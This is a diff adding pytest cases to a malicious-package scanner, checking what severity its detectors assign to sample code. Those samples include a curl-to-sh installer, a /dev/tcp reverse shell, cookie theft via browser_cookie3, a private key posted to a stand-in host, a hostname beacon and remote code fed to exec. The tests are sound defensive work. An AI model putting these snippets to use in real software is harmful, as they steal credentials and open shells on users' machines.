@@ -1,11 +1,13 @@
 """What was taken for harm in trees of honest packages, and the harm beside it that is still found."""
 
 import pytest
-from weighed import worst
+from weighed import program_of, worst
 
 from ostiary.core.scale import Severity
 from ostiary.formats.appeals import appeals
+from ostiary.program.flow import Act
 
+INIT = "sample/__init__.py"
 FETCHES = "please install it: curl -LsSf https://a.example.invalid/install.sh | sh"
 TELLS = """
 def prepare(run):
@@ -104,3 +106,143 @@ def test_what_arrives_and_may_run_is_told(command: str, suffix: str) -> None:
     found = worst("dropper", CONVERTS.format(command=command, suffix=suffix))
     assert found is not None
     assert found >= Severity.HIGH
+
+
+BOT = """
+import os
+from telebot import TeleBot
+def send(text):
+    TeleBot({token}).send_message(1, text)
+"""
+
+
+def test_a_messenger_by_the_token_of_whoever_runs_it() -> None:
+    assert (
+        worst("exfiltration-address", BOT.format(token="os.getenv('TELEGRAM_TOKEN')")) or 0
+    ) <= 1
+    known = repr("5240507980:AAHGnzHPq1s8Q3m7bGz4Jw0aVdKcE5rXyTU")
+    assert worst("exfiltration-address", BOT.format(token=known)) is Severity.CRITICAL
+
+
+ASKED = """
+import socket, subprocess
+def look(path):
+    with socket.create_connection(("a.example.invalid", 9)) as peer:
+        told = peer.recv(99).decode()
+    subprocess.check_output({words})
+"""
+
+
+def test_a_program_is_asked_about_a_number_that_arrived() -> None:
+    words = "['ps', '-o', 'lstart=', '-p', {}]"
+    assert (worst("reverse-shell", ASKED.format(words=words.format("told"))) or 0) <= 1
+    for code in ("['bash', '-c', told]", "['python', '-c', told]", "told", "['perl', '-e', told]"):
+        assert worst("reverse-shell", ASKED.format(words=code)) is Severity.CRITICAL
+
+
+SIGNS = """
+import requests
+from eth_account import Account
+def ask(private_key):
+    account = Account.from_key(private_key)
+    requests.post("https://a.example.invalid/", json={{"by": account.address, "with": {what}}})
+"""
+
+
+def test_what_is_signed_with_a_key_is_not_the_key() -> None:
+    assert (
+        worst("key-sent", SIGNS.format(what="account.sign_message(b'x').signature.hex()")) is None
+    )
+    for what in ("private_key", "account.key.hex()", "account"):
+        assert worst("key-sent", SIGNS.format(what=what)) is Severity.CRITICAL
+
+
+def test_a_shell_is_asked_for_a_variable() -> None:
+    asks = "import subprocess\ndef path():\n    subprocess.Popen(['bash', {flags}])\n"
+    assert worst("reverse-shell", asks.format(flags="'-i', '-l', '-c', 'echo $PATH'")) is None
+    assert worst("reverse-shell", asks.format(flags="'-i'")) is not None
+    told = "'-i', '-c', 'bash -i >& /dev/tcp/a.example.invalid/1 0>&1'"
+    assert worst("reverse-shell", asks.format(flags=told)) is not None
+
+
+COOKIES = """
+import {library}, requests
+def log_in(path):
+    requests.get("https://a.example.invalid/", cookies={library}.{call}(path))
+"""
+
+
+def test_a_caller_logs_in_by_his_own_cookies() -> None:
+    told = worst("stealer", COOKIES.format(library="browser_cookie3", call="chrome"))
+    assert told is Severity.HIGH
+    early = COOKIES.format(library="browser_cookie3", call="chrome") + "log_in('')\n"
+    assert worst("stealer", early, "sample/__init__.py") is Severity.CRITICAL
+
+
+LOOKS = """
+import socket
+def connect(self):
+    {who}
+    for family, kind, proto, name, to in socket.getaddrinfo(host, 8125):
+        with socket.socket(family, kind, proto) as peer:
+            peer.connect(to)
+"""
+
+
+def test_whose_name_is_looked_up() -> None:
+    assert worst("host-beacon", LOOKS.format(who="host = self.host")) is None
+    assert worst(
+        "host-beacon", LOOKS.format(who="host = socket.gethostname() + '.a.example.invalid'")
+    )
+
+
+TEMPLATE = """
+import json, urllib.request
+from pathlib import Path
+def make(where):
+    with urllib.request.urlopen("https://a.example.invalid/main.py") as told:
+        Path(where, "main.py").write_text(told.read().decode())
+def run():
+    from sample._tool import main
+    main()
+"""
+
+
+def test_a_name_of_a_module_that_shipped_is_no_file_that_was_written() -> None:
+    for tool, told in (("def main():\n    pass\n", False), ("x = 1\n", True)):
+        files = {"sample/__init__.py": "", "sample/_tool.py": tool}
+        program = program_of("wheel", files | {"sample/_part.py": TEMPLATE})
+        found = [one for one in program.flows if one.act is Act.EXECUTE and one.name == "import"]
+        assert bool(found) is told
+
+
+INSTALLS = """
+import subprocess, tempfile, urllib.request
+def install():
+    with tempfile.NamedTemporaryFile(delete=False) as kept:
+        kept.write(urllib.request.urlopen("https://get.{host}.example/install.sh").read())
+    subprocess.check_call([kept.name])
+"""
+
+
+def test_an_installer_from_the_host_that_a_package_is_named_after() -> None:
+    assert worst("dropper", INSTALLS.format(host="sample")) is Severity.HIGH
+    assert worst("dropper", INSTALLS.format(host="other")) is Severity.CRITICAL
+    assert (
+        worst("dropper", INSTALLS.format(host="sample") + "install()\n", INIT) is Severity.CRITICAL
+    )
+
+
+CODE = """
+import urllib.request
+def preload(url):
+    exec(urllib.request.urlopen({url}).read())
+preload_all = [preload]
+"""
+
+
+def test_code_from_where_a_caller_says() -> None:
+    asked = worst("dropper", CODE.format(url="url"))
+    assert asked is not None
+    assert asked < Severity.CRITICAL
+    assert worst("dropper", CODE.format(url="'http://1.2.3.4/x'")) is Severity.CRITICAL
